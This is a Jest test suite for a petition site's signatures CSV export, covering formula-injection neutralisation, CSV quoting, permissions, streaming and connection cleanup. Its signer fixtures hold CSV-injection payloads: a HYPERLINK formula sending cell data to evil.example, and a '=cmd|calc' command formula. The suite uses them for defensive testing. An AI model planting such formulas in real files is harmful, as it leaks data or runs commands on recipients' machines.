import { Readable, Writable } from 'node:stream';
import type { ReadableStream as WebReadableStream } from 'node:stream/web';
import { parse } from 'csv-parse';
import { parse as parseSync } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import { DatabasePools } from '../src/common/database/database-pools';
import { neutraliseCell, SIGNATURE_EXPORT_COLUMNS, SignaturesExportService } from '../src/modules/petitions/signatures-export.service';
import { createApiKey, createChapter, createOrganisation, joinChapter, makeOrganiser, registerUser, TestUser } from './support/factories';
import { startTestApp, TestApp } from './support/test-app';

const HEADER = 'signed_at,full_name,email,postcode,country,comment,display_publicly,contact_consent,consent_wording_id,consented_at,source';

describe('neutraliseCell (OWASP CSV injection)', () => {
  it.each([
    ['=SUM(A1:A9)', "'=SUM(A1:A9)"],
    ['+44 20 7946 0000', "'+44 20 7946 0000"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\tindented', "'\tindented"],
    ['\r\nnew line', "'\r\nnew line"],
  ])('prefixes %j with a single quote', (cell, expected) => {
    expect(neutraliseCell(cell)).toBe(expected);
  });

  it.each(['', 'Ana Quispe', 'a=b', 'x-y', "'=already quoted", ' =leading space', '\nnewline first', 'Ñandú', '2026-03-01T10:00:00.000Z'])('leaves %j as it is', (cell) => {
    expect(neutraliseCell(cell)).toBe(cell);
  });

  it('prefixes once, looking only at the first character', () => {
    expect(neutraliseCell('==1')).toBe("'==1");
    expect(neutraliseCell(neutraliseCell('=1'))).toBe("'=1");
  });
});

describe('signatures CSV export', () => {
  let t: TestApp;
  let db: DataSource;
  let admin: TestUser;
  let organiser: TestUser;
  let otherOrganiser: TestUser;
  let member: TestUser;
  let outsider: TestUser;
  let organisationId: string;
  let chapterId: string;
  let signaturesKey: string;
  let petitionsKey: string;
  let foreignSignaturesKey: string;
  let petition: { id: string; slug: string };
  let draft: { id: string };
  let hidden: { id: string };
  let wordingId: string;

  const path = (id: string) => `/exports/petitions/${id}/signatures.csv`;
  const get = (id: string, token?: string, init: RequestInit = {}) =>
    fetch(`${t.url}${path(id)}`, { ...init, headers: token ? { authorization: `Bearer ${token}` } : {} });

  async function createPetition(token: string, input: Record<string, unknown>, open = true): Promise<{ id: string; slug: string }> {
    const res = await t.gql(
      `mutation($input: CreatePetitionInput!) { createPetition(input: $input) { id slug } }`,
      { input: { organisationId, chapterId, title: 'Petition', target: 'The Minister', body: 'Please act.', ...input } },
      token,
    );
    expect(res.errors).toBeUndefined();
    const created = res.data.createPetition;
    if (open) expect((await t.gql(`mutation($id: ID!) { openPetition(id: $id) { status } }`, { id: created.id }, token)).data.openPetition.status).toBe('OPEN');
    return created;
  }

  async function sign(petitionId: string, input: Record<string, unknown>): Promise<void> {
    const res = await t.gql(`mutation($input: SignPetitionInput!) { signPetition(input: $input) { petition { id } } }`, { input: { petitionId, ...input } });
    expect(res.errors).toBeUndefined();
  }

  /** Fixes a signature's times so rows and their order are exact. */
  async function signedAt(email: string, at: string): Promise<void> {
    await db.query(`UPDATE signatures SET created_at = $2, consented_at = CASE WHEN contact_consent THEN $2::timestamptz END WHERE email = $1`, [email, at]);
  }

  const csvOf = (text: string): string[][] => parseSync(text, { relax_column_count: false });

  beforeAll(async () => {
    t = await startTestApp();
    db = t.app.get(DataSource);
    [admin, organiser, otherOrganiser, member, outsider] = await Promise.all(
      ['Ada Admin', 'Olga Organiser', 'Omar Organiser', 'Mia Member', 'Otto Outsider'].map((name) => registerUser(t, name)),
    );
    organisationId = (await createOrganisation(t, admin)).id;
    chapterId = (await createChapter(t, admin, organisationId, { name: 'London' })).id;
    const otherChapterId = (await createChapter(t, admin, organisationId, { name: 'Manchester' })).id;
    await makeOrganiser(t, admin, organiser, chapterId);
    await makeOrganiser(t, admin, otherOrganiser, otherChapterId);
    await joinChapter(t, member, chapterId);
    signaturesKey = (await createApiKey(t, admin, organisationId, ['SIGNATURES_READ'])).secret;
    petitionsKey = (await createApiKey(t, admin, organisationId, ['PETITIONS_READ', 'SIGNATURES_WRITE'])).secret;
    const foreignOrg = await createOrganisation(t, outsider);
    foreignSignaturesKey = (await createApiKey(t, outsider, foreignOrg.id, ['SIGNATURES_READ'])).secret;
    wordingId = (await db.query(`SELECT id FROM consent_wordings WHERE organisation_id IS NULL`))[0].id;

    petition = await createPetition(organiser.token, { title: 'Free the rivers', slug: 'free-the-rivers' });
    draft = await createPetition(organiser.token, { title: 'Not yet' }, false);
    hidden = await createPetition(organiser.token, { title: 'Chapter only', visibility: 'CHAPTER' });

    // Signed one after another through the API, then given fixed times (two of them tied, to show the id tiebreak).
    await sign(petition.id, {
      fullName: 'Ñandú José',
      email: ' NANDU@Example.org ',
      postcode: 'SW1A 1AA',
      country: 'gb',
      comment: 'Línea uno\nLínea "dos", con coma',
      displayPublicly: true,
      contactConsent: true,
      source: 'web',
    });
    await sign(petition.id, {
      fullName: 'Smith, Jane "JJ"',
      email: 'jane@example.org',
      postcode: '-1',
      comment: '=HYPERLINK("https://evil.example/?q="&A1,"click")',
      source: '+44 campaign',
    });
    await sign(petition.id, { fullName: '@Ana Quispe', email: 'ana@example.org', comment: '\r\nstarts with a carriage return', source: '-utm' });
    await sign(petition.id, { fullName: '=1+1', email: 'calc@example.org', comment: '-2+3', source: '@partner', contactConsent: true });
    await sign(petition.id, { fullName: 'Plain Person', email: 'plain@example.org', comment: "a=b, c-d; it's fine", country: 'BO' });
    // The API refuses tabs, but rows may come from elsewhere (imports): the export neutralises them too.
    await db.query(
      `INSERT INTO signatures (petition_id, full_name, email, comment, source, display_publicly, contact_consent, created_at)
       VALUES ($1, E'\\tTabbed Name', 'tab@example.org', E'\\tindented', E'\\rcr', false, false, '2026-03-01T10:00:05Z')`,
      [petition.id],
    );
    await signedAt('nandu@example.org', '2026-03-01T10:00:00.000Z');
    await signedAt('jane@example.org', '2026-03-01T10:00:01.000Z');
    await signedAt('ana@example.org', '2026-03-01T10:00:02.500Z');
    await signedAt('calc@example.org', '2026-03-01T10:00:02.500Z');
    await signedAt('plain@example.org', '2026-03-01T10:00:09.000Z');
    // Another petition's signer never shows up.
    const other = await createPetition(organiser.token, { title: 'Another cause' });
    await sign(other.id, { fullName: 'Someone Else', email: 'else@example.org' });
  });
  afterAll(() => t.close());

  it('streams every signer as UTF-8 CSV with a header, oldest first, ties by id, formulas neutralised', async () => {
    const res = await get(petition.id, organiser.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename=free-the-rivers-signatures.csv');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('content-length')).toBeNull(); // streamed (chunked), not buffered

    const bytes = Buffer.from(await res.arrayBuffer());
    expect(bytes.includes(Buffer.from('Ñandú José', 'utf8'))).toBe(true);
    expect(bytes.includes(Buffer.from('Línea', 'latin1'))).toBe(false);
    const text = bytes.toString('utf8');
    expect(text.startsWith(`${HEADER}\r\n`)).toBe(true);

    const [ana, calc] = (await db.query(`SELECT email FROM signatures WHERE email IN ('ana@example.org', 'calc@example.org') ORDER BY id`)).map(
      (r: { email: string }) => r.email,
    );
    const tied: Record<string, string[]> = {
      'ana@example.org': ['2026-03-01T10:00:02.500Z', "'@Ana Quispe", 'ana@example.org', '', '', "'\r\nstarts with a carriage return", 'false', 'false', '', '', "'-utm"],
      'calc@example.org': ['2026-03-01T10:00:02.500Z', "'=1+1", 'calc@example.org', '', '', "'-2+3", 'false', 'true', wordingId, '2026-03-01T10:00:02.500Z', "'@partner"],
    };
    const rows = csvOf(text);
    expect(rows[0]).toEqual([...SIGNATURE_EXPORT_COLUMNS]);
    expect(rows.slice(1)).toEqual([
      ['2026-03-01T10:00:00.000Z', 'Ñandú José', 'nandu@example.org', 'SW1A 1AA', 'GB', 'Línea uno\nLínea "dos", con coma', 'true', 'true', wordingId, '2026-03-01T10:00:00.000Z', 'web'],
      ['2026-03-01T10:00:01.000Z', 'Smith, Jane "JJ"', 'jane@example.org', "'-1", '', '\'=HYPERLINK("https://evil.example/?q="&A1,"click")', 'false', 'false', '', '', "'+44 campaign"],
      tied[ana],
      tied[calc],
      ['2026-03-01T10:00:05.000Z', "'\tTabbed Name", 'tab@example.org', '', '', "'\tindented", 'false', 'false', '', '', "'\rcr"],
      ['2026-03-01T10:00:09.000Z', 'Plain Person', 'plain@example.org', '', 'BO', "a=b, c-d; it's fine", 'false', 'false', '', '', ''],
    ]);
    // Quotes, commas and newlines are quoted per RFC 4180, not lost.
    expect(text).toContain('"Smith, Jane ""JJ"""');
    expect(text).toContain('"Línea uno\nLínea ""dos"", con coma"');
  });

  it('is a header-only file for a petition nobody has signed yet', async () => {
    const empty = await createPetition(organiser.token, { title: 'Quiet one', slug: 'quiet-one' });
    const res = await get(empty.id, admin.token);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename=quiet-one-signatures.csv');
    expect(await res.text()).toBe(`${HEADER}\r\n`);
  });

  it("lets the chapter's organisers, the organisation's admins and SIGNATURES_READ keys export", async () => {
    for (const token of [organiser.token, admin.token, signaturesKey]) {
      const res = await get(petition.id, token);
      expect(res.status).toBe(200);
      expect(csvOf(await res.text())).toHaveLength(7);
    }
    // An upper-case id is the same petition.
    expect((await get(petition.id.toUpperCase(), signaturesKey)).status).toBe(200);
  });

  it('answers 403 to those who see the petition but may not read its signers', async () => {
    const cases: Array<[string, string | undefined]> = [
      ['member', member.token],
      ['anonymous', undefined],
      ['signed-in outsider', outsider.token],
      ["another chapter's organiser", otherOrganiser.token],
      ['key without SIGNATURES_READ', petitionsKey],
      ["another organisation's SIGNATURES_READ key", foreignSignaturesKey],
    ];
    for (const [who, token] of cases) {
      const res = await get(petition.id, token);
      expect({ who, status: res.status, type: res.headers.get('content-type') }).toEqual({ who, status: 403, type: expect.stringMatching(/^application\/json/) });
      expect(await res.text()).not.toContain('example.org');
    }
    // A CHAPTER petition is visible to its members: still 403 for them.
    expect((await get(hidden.id, member.token)).status).toBe(403);
  });

  it('limits organisation-wide petitions to admins and SIGNATURES_READ keys', async () => {
    const orgWide = await createPetition(admin.token, { chapterId: undefined, title: 'Everyone together' });
    expect((await get(orgWide.id, admin.token)).status).toBe(200);
    expect((await get(orgWide.id, signaturesKey)).status).toBe(200);
    expect((await get(orgWide.id, organiser.token)).status).toBe(403);
  });

  it('answers the same 404 for unknown, malformed and invisible petitions', async () => {
    const answers = await Promise.all(
      [
        get(draft.id), // DRAFT, anonymous
        get(draft.id, member.token), // DRAFT, member
        get(hidden.id), // CHAPTER visibility, anonymous
        get(hidden.id, outsider.token), // CHAPTER visibility, outsider
        get('00000000-0000-4000-8000-000000000000', admin.token),
        get('not-an-id', admin.token),
        get(`${petition.id}x`, admin.token),
      ].map(async (pending) => {
        const res = await pending;
        return { status: res.status, body: await res.text() };
      }),
    );
    expect(answers.map((a) => a.status)).toEqual([404, 404, 404, 404, 404, 404, 404]);
    expect(new Set(answers.map((a) => a.body)).size).toBe(1);
    // Its organisers do see the draft (with no signers yet).
    expect((await get(draft.id, organiser.token)).status).toBe(200);
  });

  it('answers 401 to bad credentials, never treating them as anonymous', async () => {
    for (const token of ['mk_not-a-key', 'not.a.jwt', `${organiser.token}x`]) {
      const res = await get(petition.id, token);
      expect(res.status).toBe(401);
      expect(await res.text()).not.toContain('example.org');
    }
  });

  describe('a large export', () => {
    const SIGNERS = 20_000;
    let bulk: { id: string };

    beforeAll(async () => {
      bulk = await createPetition(organiser.token, { title: 'Big one', slug: 'big-one' });
      await db.query(
        `INSERT INTO signatures (petition_id, full_name, email, comment, display_publicly, contact_consent, created_at)
         SELECT $1, 'Signer ' || lpad(i::text, 5, '0'), 'bulk-' || i || '@example.org', CASE WHEN i % 2 = 0 THEN '=cmd|calc' END,
                false, false, timestamptz '2026-01-01T00:00:00Z' + i * interval '1 second'
           FROM generate_series(1, $2::int) AS i`,
        [bulk.id, SIGNERS],
      );
    });

    it('streams completely, in order, through a streaming parser', async () => {
      const res = await get(bulk.id, signaturesKey);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-length')).toBeNull();
      const parser = Readable.fromWeb(res.body as WebReadableStream).pipe(parse({ columns: true }));
      let count = 0;
      let outOfOrder = 0;
      let neutralised = 0;
      let previous = '';
      for await (const row of parser as AsyncIterable<Record<string, string>>) {
        count++;
        if (row.full_name !== `Signer ${String(count).padStart(5, '0')}` || row.signed_at <= previous) outOfOrder++;
        if (row.comment === "'=cmd|calc") neutralised++;
        previous = row.signed_at;
      }
      expect({ count, outOfOrder, neutralised }).toEqual({ count: SIGNERS, outOfOrder: 0, neutralised: SIGNERS / 2 });
      expect(previous).toBe(new Date(Date.parse('2026-01-01T00:00:00Z') + SIGNERS * 1000).toISOString());
    });

    // Exports run on their own pool, never the request pool.
    const pool = () => t.app.get(DatabasePools).exportPool;
    const checkedOut = () => pool().totalCount - pool().idleCount;

    it('releases its database client when the writer goes away mid-stream', async () => {
      const service = t.app.get(SignaturesExportService);
      let received = 0;
      const out: Writable = new Writable({
        write(chunk: Buffer, _encoding, callback) {
          received += chunk.length;
          callback();
          out.destroy(); // the downloader disconnects after the first chunk
        },
      });
      let ready = false;
      await service.writeCsv(bulk.id, out, () => (ready = true)); // resolves once the client is released
      expect(ready).toBe(true);
      expect(received).toBeGreaterThan(0);
      expect(received).toBeLessThan(100_000);
      expect(checkedOut()).toBe(0);
    });

    it('frees the connection when HTTP clients disconnect mid-download: more aborts than the pool has connections, then a full export', async () => {
      const poolSize = pool().options.max!;
      // A client given back with an error is closed rather than reused: the export's answer to a cut download.
      let discarded = 0;
      const onRelease = (error?: Error) => void (error && discarded++);
      pool().on('release', onRelease);
      for (let i = 0; i < poolSize + 2; i++) {
        const abort = new AbortController();
        const res = await get(bulk.id, signaturesKey, { signal: abort.signal });
        expect(res.status).toBe(200);
        const reader = res.body!.getReader();
        expect((await reader.read()).done).toBe(false);
        abort.abort();
        await expect(reader.read()).rejects.toThrow();
      }
      // A leaked client per abort would exhaust the pool and this would hang until the timeout.
      const res = await get(bulk.id, signaturesKey, { signal: AbortSignal.timeout(20_000) });
      expect(res.status).toBe(200);
      expect(csvOf(await res.text())).toHaveLength(SIGNERS + 1);
      pool().off('release', onRelease);
      expect(discarded).toBeGreaterThan(0);
    });
  });
});
